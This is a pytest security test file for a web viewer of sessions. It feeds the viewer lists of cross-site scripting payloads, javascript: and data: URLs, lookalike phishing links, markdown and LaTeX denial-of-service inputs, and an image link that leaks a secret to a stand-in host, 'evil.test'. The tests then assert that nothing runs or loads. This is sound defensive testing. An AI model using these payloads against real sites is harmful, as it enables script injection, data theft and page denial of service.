"""Whatever is written into a session, nothing of it runs, loads anything, or stops the page."""

from __future__ import annotations

import json

import pytest

from inspector.content.harness import Harness

RAN = "window.ran = true"
MARKUP = (
    f"<script>{RAN}</script>",
    f"<img src=x onerror='{RAN}'>",
    f"<svg onload='{RAN}'><animate onbegin='{RAN}' attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.ran = true</script>'></iframe>",
    f"<details open ontoggle='{RAN}'><summary>x</summary></details>",
    f"<math><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RAN}&gt;'>",
    f"<a href='javascript:{RAN}'>click</a>",
    f"<form action='javascript:{RAN}'><button>go</button></form>",
    "<object data='data:text/html,<script>parent.ran = true</script>'></object>",
    "<base href='https://evil.test/'><link rel=stylesheet href='https://evil.test/x.css'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RAN}'>",
    "<style>* { display: none }</style>",
    f"<video><source onerror='{RAN}'></video>",
    f"<input autofocus onfocus='{RAN}'>",
    f"</pre></code><img src=x onerror='{RAN}'>",
)
ADDRESSES = (
    f"javascript:{RAN}",
    f"JaVaScRiPt:{RAN}",
    f"java\tscript:{RAN}",
    f"&#106;avascript:{RAN}",
    f"javascript&colon;{RAN}",
    f"\x01javascript:{RAN}",
    f"vbscript:{RAN}",
    "data:text/html,<script>parent.ran = true</script>",
    "data:image/svg+xml,<svg onload='parent.ran = true'/>",
    "file:///etc/passwd",
    "blob:http://localhost/1",
    "//evil.test/x",
    "/v1/sessions",
    "intent://x#Intent;end",
)


def harmless(shown: Harness) -> None:
    """Nothing has run, nothing was asked for, and the page answers."""
    page = shown.page
    page.wait_for_timeout(0)
    assert page.evaluate("window.ran") is None
    assert (
        page.locator("main")
        .locator("script, style, iframe, object, embed, form, base, link, meta")
        .count()
        == 0
    )
    hrefs = page.locator("main a").evaluate_all("links => links.map((link) => link.protocol)")
    assert set(hrefs) <= {"http:", "https:", "mailto:"}
    assert page.locator("main img").count() == 0
    assert page.evaluate(
        """[...document.querySelectorAll('main *')].every((one) =>
            one.getAttributeNames().every((name) => !name.startsWith('on')))"""
    )
    assert shown.foreign == []


@pytest.mark.parametrize("language", [None, "markdown", "json", "html", "text"])
def test_markup_in_a_text_stays_text(shown: Harness, language: str | None) -> None:
    text = "\n\n".join(
        (*MARKUP, *(f"- item {one}\n\n> {one}\n\n| a |\n|---|\n| {one} |" for one in MARKUP))
    )
    shown.message(text, language=language)
    harmless(shown)
    assert "<script>" in shown.text()


def test_an_address_that_is_not_of_a_site_is_not_a_link(shown: Harness) -> None:
    links = [f"[click](<{address}>) ![image](<{address}>) <{address}>" for address in ADDRESSES]
    defined = "\n".join(f"[r{at}]: <{address}>" for at, address in enumerate(ADDRESSES))
    used = " ".join(f"[click][r{at}]" for at in range(len(ADDRESSES)))
    shown.message("\n\n".join((*links, used, defined)))
    harmless(shown)
    assert shown.page.locator("main a").count() == 0
    assert shown.text().count("click") >= 2 * len(ADDRESSES) - 2


def test_a_picture_in_a_text_is_a_link_that_says_where_it_leads(shown: Harness) -> None:
    """Else a text could tell another site what the session says, by the address of a picture."""
    shown.message(
        "![chart](https://evil.test/x.png?secret=42)\n\n![][ref]\n\n[ref]: http://evil.test/y"
    )
    harmless(shown)
    links = shown.page.locator("main a")
    assert links.all_inner_texts() == ["chart (evil.test)", "picture (evil.test)"]
    for link in links.all():
        assert link.get_attribute("target") == "_blank"
        assert link.get_attribute("rel") == "noopener noreferrer nofollow"


@pytest.mark.parametrize(
    ("markdown", "words"),
    [
        ("[our bank](https://evil.test/a)", "our bank (evil.test)"),
        ("[https://bank.test](https://evil.test/)", "https://bank.test (evil.test)"),
        ("[bank.test](https://bank.test.evil.test/)", "bank.test (bank.test.evil.test)"),
        ("[bank.test](https://bank.test@evil.test/)", "bank.test (evil.test)"),
        ("[bank.test](https://bank.test/login)", "bank.test"),
        ("[x](https://b\u0430nk.test/)", "x (xn--bnk-6cd.test)"),
        ("https://bank.test/a?b=c", "https://bank.test/a?b=c"),
        ("[mail](mailto:a%40b@evil.test)", "mail (a@b@evil.test)"),
    ],
)
def test_a_link_says_where_it_leads(shown: Harness, markdown: str, words: str) -> None:
    shown.message(markdown)
    assert shown.page.locator("main a").inner_text() == words


FORMULAS = (
    rf"\href{{javascript:{RAN}}}{{x}}",
    rf"\url{{javascript:{RAN}}}",
    r"\includegraphics{https://evil.test/x.png}",
    r"\htmlStyle{position:fixed;inset:0}{x}",
    r"\htmlClass{element-panel page}{x}",
    r"\htmlId{page}{x}",
    rf"\htmlData{{x=1}}{{x}} <img src=x onerror='{RAN}'>",
    r"\def\a{\a\a}\a",
    r"\newcommand\x[1]{#1#1}" + r"\x{" * 40 + "y" + "}" * 40,
    "{" * 4000 + "x" + "}" * 4000,
    r"\rule{99999em}{99999em}",
    r"\Huge" * 50 + "x",
    r"\kern-99999em x",
    r"\raisebox{-9999em}{x}",
    r"\sqrt" * 500 + "x",
    "x" * 100_000,
    r"\begin{matrix}" + "&" * 2000 + r"\end{matrix}",
)


def test_a_formula_runs_nothing_and_keeps_to_its_place(shown: Harness) -> None:
    page = shown.page
    for tex in FORMULAS:
        shown.message(f"before ${tex}$ after\n\n$$\n{tex}\n$$\n\nend")
        shown.drawn()
        harmless(shown)
        assert "end" in shown.text()
        # What it draws is clipped to the text's own box.
        inside = page.locator(".content-shown").bounding_box()
        boxes = page.locator(".md-formula:has(.md-drawn:not([hidden]))").evaluate_all(
            "all => all.map((one) => one.getBoundingClientRect().toJSON())"
        )
        assert inside
        for box in boxes:
            assert box["x"] >= inside["x"] - 1, tex
            assert box["right"] <= inside["x"] + inside["width"] + 1, tex
            assert box["height"] < 2000, tex
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), tex


BOMBS = {
    "lists": "".join(f"{' ' * 2 * depth}- x\n" for depth in range(600)),
    "one line of lists": "- " * 20_000 + "x",
    "quotes": ">" * 20_000 + "x",
    "emphasis": "*a_ " * 20_000,
    "brackets": "[" * 50_000,
    "links": "[a](" * 20_000,
    "images": "![" * 50_000,
    "backticks": " ".join("`" * n for n in range(1, 400)),
    "dollars": "$a " * 20_000,
    "entities": "&" * 50_000 + "&#x110000;" * 1000,
    "autolinks": "https://" * 5000,
    "table": "|a" * 500 + "|\n" + "|-" * 500 + "|\n" + ("|x" * 500 + "|\n") * 200,
    "long table": "|a|b|\n|-|-|\n" + "|x|y|\n" * 20_000,
    "rules": "---\n" * 20_000,
    "references": "".join(f"[r{n}]: /u\n" for n in range(10_000)) + "[r1] " * 1000,
    "one word": "x" * 500_000,
    "newlines": "\n" * 200_000 + "x",
    "formulas": "$x^2$ and $y_1$\n\n" * 1500,
    "null": "\0\ufffe\u202e\u2028 x" * 1000,
}


MOST_NODES = 30_000


def test_a_text_that_is_built_to_be_dear_does_not_stop_the_page(shown: Harness) -> None:
    page = shown.page
    for kind, bomb in BOMBS.items():
        # The whole is within the limit of the driver: to read and to draw it takes no minutes.
        shown.message(f"{bomb}\n\nend")
        harmless(shown)
        assert page.locator("article").count() == 1, kind
        assert page.evaluate("document.querySelectorAll('main *').length") < MOST_NODES, kind
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), kind


def test_names_and_facts_are_text(shown: Harness) -> None:
    elements = [
        {
            "id": f"{type_}{at}",
            "step_id": "m",
            "type": type_,
            "name": markup,
            "mime": markup,
            "props": {
                "size": markup,
                "language": markup,
                "status": markup,
                "tasks": [{"title": markup, "status": markup}],
                markup: markup,
            },
            "url": address,
            "size": None,
            "sha256": None,
            "display": markup,
        }
        for at, (markup, address) in enumerate(zip(MARKUP, ADDRESSES, strict=False))
        for type_ in ("custom", "tasklist", "image", "text", "file", "pdf", "constructor", markup)
    ]
    usage = {"input_tokens": 1, "output_tokens": 1, "cost": 1, "model": MARKUP[1]}
    shown.show(
        {
            "id": "m",
            "name": MARKUP[0],
            "language": MARKUP[1],
            "output": "x",
            "usage": usage,
            "progress": {"done": 1, "total": 2, "text": MARKUP[0]},
        },
        elements=elements,
    )
    page = shown.page
    page.locator("details").evaluate_all("all => all.forEach((one) => { one.open = true; })")
    harmless(shown)


@pytest.mark.parametrize("type_", ["text", "json", "dataframe", "plotly", "pdf"])
@pytest.mark.parametrize("mime", ["text/html", "image/svg+xml"])
def test_the_bytes_of_an_element_run_nothing(shown: Harness, type_: str, mime: str) -> None:
    shown.element("".join(MARKUP).encode(), mime, type=type_)
    shown.page.locator(".element-misfit, .plain").first.wait_for()
    harmless(shown)


def test_strings_in_a_structure_a_table_and_a_figure_are_text(shown: Harness) -> None:
    shown.element(
        json.dumps({markup: [markup, {"__proto__": markup}] for markup in MARKUP}).encode(),
        "application/json",
        type="json",
    )
    shown.page.locator(".json").wait_for()
    harmless(shown)
    table = {"columns": list(MARKUP), "index": list(MARKUP), "data": [list(MARKUP)] * len(MARKUP)}
    shown.element(json.dumps(table).encode(), "application/json", type="dataframe")
    shown.page.locator(".data-row").first.wait_for()
    harmless(shown)


def test_a_figure_runs_nothing_and_asks_nobody(shown: Harness) -> None:
    x = [1, 2]
    link = f'<a href="javascript:{RAN}">click</a><img src="https://evil.test/x">'
    figure = {
        "data": [
            {
                "type": "bar",
                "x": x,
                "y": x,
                "name": link,
                "text": [link, link],
                "hovertemplate": link,
                "customdata": [link],
            }
        ],
        "layout": {
            "title": {"text": link},
            "images": [
                {"source": "https://evil.test/x.png", "x": 0, "y": 1, "sizex": 1, "sizey": 1},
                {"source": f"javascript:{RAN}"},
            ],
            "annotations": [{"text": link, "x": 1, "y": 1}],
            "xaxis": {"title": {"text": link}},
        },
        "config": {"plotlyServerURL": "https://evil.test", "showSendToCloud": True},
    }
    shown.element(json.dumps(figure).encode(), "application/json", type="plotly")
    shown.page.locator(".element-plot .main-svg").first.wait_for()
    assert shown.page.evaluate("window.ran") is None
    hrefs = shown.page.locator(".element-plot a").evaluate_all(
        "links => links.map((link) => link.getAttribute('xlink:href') ?? link.getAttribute('href'))"
    )
    assert not [href for href in hrefs if href and "javascript" in href.lower()]
    # The library's own: a sheet for maps, and the style of a link in a text. Both are refused.
    assert set(shown.page.evaluate("window.violations")) <= {
        "style-src-elem inline",
        "style-src-attr inline",
    }


def test_a_figure_of_a_map_is_not_asked_of_another_site(shown: Harness) -> None:
    figure = {"data": [{"type": "choropleth", "locations": ["ITA"], "z": [1]}]}
    shown.element(json.dumps(figure).encode(), "application/json", type="plotly")
    assert "needs another site" in shown.page.locator(".element-misfit").inner_text()


def test_an_address_of_an_author_is_a_link_and_gets_no_token(shown: Harness) -> None:
    shown.tokens.clear()
    authored = {"step_id": "m", "size": None, "sha256": None, "mime": "image/png"}
    shown.show(
        {"id": "m", "status": "ok"},
        elements=[
            authored
            | {"id": "a", "type": "image", "name": "a cat", "url": "https://cats.test/a.png"},
            authored
            | {"id": "b", "type": "text", "name": "local", "url": "/v1/sessions/other/elements/b"},
            authored | {"id": "c", "type": "image", "name": "bad", "url": f"javascript:{RAN}"},
        ],
    )
    harmless(shown)
    assert shown.page.locator("main a").all_inner_texts() == [
        "a cat (cats.test)",
        "local (localhost)",
    ]
    assert shown.tokens == []
    assert not [
        href
        for href in shown.page.locator("main a").evaluate_all("all => all.map((a) => a.href)")
        if "token" in href
    ]
